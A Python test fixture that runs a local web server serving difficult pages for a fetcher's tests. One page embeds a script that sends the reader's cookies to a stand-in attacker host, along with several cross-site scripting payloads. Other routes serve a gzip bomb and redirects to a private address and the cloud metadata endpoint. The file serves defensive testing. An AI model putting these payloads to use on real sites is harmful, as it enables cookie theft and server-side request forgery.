"""A small web server on 127.0.0.1 for the fetcher's tests, the browser tests
and bench/fetch.py: pages of every shape the fetcher must cope with. Every
loop is bounded in bytes and time, so it stops by itself."""

import gzip
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PAGES = Path(__file__).resolve().parent.parent / "bench" / "data" / "pages"

ARTICLE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Minister's road figures questioned | The Daily Ledger</title>
<meta name="author" content="Jane Doe">
<meta property="og:site_name" content="The Daily Ledger">
<meta property="article:published_time" content="2026-11-20T08:00:00Z">
</head><body>
<div class="cookie-banner">We use cookies to improve your experience. Accept all cookies</div>
<nav><ul><li><a href="/">Home</a></li><li><a href="/politics">Politics</a></li><li><a href="/sport">Sport</a></li></ul></nav>
<main><article>
<h1>Minister's road figures questioned</h1>
<p>The transport minister said on Monday that American roads were designed for cars and that nine in ten journeys are made by car.</p>
<p>Researchers at the national statistics office said the figure of nine in ten was last measured in 2009 and has since fallen to about eight in ten.</p>
<p>The minister's office did not answer a request for comment on Tuesday, but a spokesperson later said the figures would be reviewed.</p>
<p>Cycling groups welcomed the review and asked for the new figures to be published before the budget debate next month.</p>
</article></main>
<aside><h2>Most read</h2><ul><li><a href="/a">Storm closes schools across the region</a></li><li><a href="/b">Local team wins the cup again</a></li></ul></aside>
<footer><p>Copyright 2026 The Daily Ledger. All rights reserved.</p><p><a href="/privacy">Privacy policy</a></p></footer>
</body></html>"""

ARTICLE_CHANGED = ARTICLE.replace("about eight in ten", "about seven in ten")

NAV_ONLY = """<!doctype html><html><head><title>Menu</title></head><body>
<nav><a href="/">Home</a> <a href="/news">News</a> <a href="/about">About</a></nav>
<footer>Copyright 2026</footer></body></html>"""

HOSTILE = """<!doctype html><html lang="en"><head><title>Totally normal news</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('onload')"><article><h1>Totally normal news</h1>
<p>The council approved the new budget on Wednesday after a long debate about libraries.<img src=x onerror="alert('img')"></p>
<p>Members voted twelve to three in favour, and the budget takes effect in January next year.</p>
<script>alert('inline')</script><iframe src="javascript:alert(2)"></iframe>
<p>&lt;script&gt;alert('escaped text stays text')&lt;/script&gt; was written on a placard outside.</p>
</article></body></html>"""

# Latin-1 bytes, labelled UTF-8 by the server: the bytes do not fit the label.
CHARSET_LIE = (
    "<!doctype html><html lang='fr'><head><title>Le café de la gare</title></head><body>"
    "<article><h1>Le café de la gare</h1>"
    "<p>Le café de la gare a fermé ses portes après quarante années de service à la ville.</p>"
    "<p>Les habitués regrettent déjà les crêpes et le thé servis chaque matin près des quais.</p>"
    "</article></body></html>"
).encode("latin-1")


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "TestServer"

    def log_message(self, *args):
        pass

    def send(self, status, body=b"", content_type="text/html; charset=utf-8", headers=()):
        if isinstance(body, str):
            body = body.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.server.requests.append(self.path)
        path = self.path.split("?")[0]
        route = ROUTES.get(path)
        if route is None and path.startswith("/pages/"):
            file = PAGES / path.removeprefix("/pages/")
            if file.is_file() and file.parent == PAGES:
                return self.send(200, file.read_bytes())
        if route is None:
            return self.send(404, "<h1>Not found</h1>")
        route(self)


def article(h):
    h.send(200, h.server.article)


def stream_forever(h, chunk, pause, limit_seconds=30, limit_bytes=200 * 1024 * 1024):
    """Send `chunk` again and again (no Content-Length) until the client hangs up
    or a bound is reached."""
    h.send_response(200)
    h.send_header("Content-Type", "text/html; charset=utf-8")
    h.send_header("Connection", "close")
    h.end_headers()
    h.close_connection = True
    started, sent = time.monotonic(), 0
    try:
        h.wfile.write(b"<html><body><article><p>")
        while time.monotonic() - started < limit_seconds and sent < limit_bytes:
            h.wfile.write(chunk)
            h.wfile.flush()
            sent += len(chunk)
            if pause:
                time.sleep(pause)
    except (BrokenPipeError, ConnectionResetError):
        pass


def huge(h):  # a page of 100 MB and more
    stream_forever(h, b"All work and no play makes a very long page. " * 1500, 0)


def drip(h):  # a byte every 0.2 s: each read is quick, the whole never ends
    stream_forever(h, b"a", 0.2, limit_seconds=20)


def gzip_bomb(h):
    body = gzip.compress(b"<p>" + b"0" * (8 * 1024 * 1024) + b"</p>")
    h.send(200, body, headers=[("Content-Encoding", "gzip")])


def redirect(to):
    return lambda h: h.send(302, "", headers=[("Location", to)])


def delayed(h):  # headers only after a long wait
    time.sleep(3)
    h.send(200, ARTICLE)


ROUTES = {
    "/article": article,
    "/same": lambda h: h.send(200, ARTICLE),
    "/nav-only": lambda h: h.send(200, NAV_ONLY),
    "/hostile": lambda h: h.send(200, HOSTILE),
    "/charset-lie": lambda h: h.send(200, CHARSET_LIE, "text/html; charset=utf-8"),
    "/binary": lambda h: h.send(200, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "image/png"),
    "/binary-as-html": lambda h: h.send(200, b"\x00\x01\x02\x03" * 3000, "text/html"),
    "/pdf": lambda h: h.send(
        200, b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "application/pdf"
    ),
    "/plain": lambda h: h.send(
        200, "A plain text page.\n\nIt has two paragraphs of text.", "text/plain; charset=utf-8"
    ),
    "/huge": huge,
    "/drip": drip,
    "/slow-headers": delayed,
    "/gzip-bomb": gzip_bomb,
    "/loop": redirect("/loop"),
    "/loop-a": redirect("/loop-b"),
    "/loop-b": redirect("/loop-a"),
    "/moved": redirect("/article"),
    "/to-private": redirect("http://10.0.0.1/admin"),
    "/to-metadata": redirect("http://169.254.169.254/latest/meta-data/"),
    "/to-ftp": redirect("ftp://127.0.0.1/file"),
    "/gone": lambda h: h.send(404, "<h1>Gone</h1>"),
    "/error": lambda h: h.send(500, "<h1>Oops</h1>"),
    "/empty": lambda h: h.send(200, ""),
}
for n in range(8):
    ROUTES[f"/chain{n}"] = redirect(f"/chain{n + 1}")


class Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def handle_error(self, request, client_address):
        pass  # a client that hung up (the fetcher stopping at a limit) is expected


def start(port=0):
    """Start the server on 127.0.0.1 in a thread; returns it (`.url(path)`, `.stop()`)."""
    server = Server(("127.0.0.1", port), Handler)
    server.requests = []
    server.article = ARTICLE
    server.base = f"http://127.0.0.1:{server.server_address[1]}"
    server.url = lambda path: server.base + path
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1})
    thread.daemon = True
    thread.start()

    def stop():
        server.shutdown()
        server.server_close()

    server.stop = stop
    return server
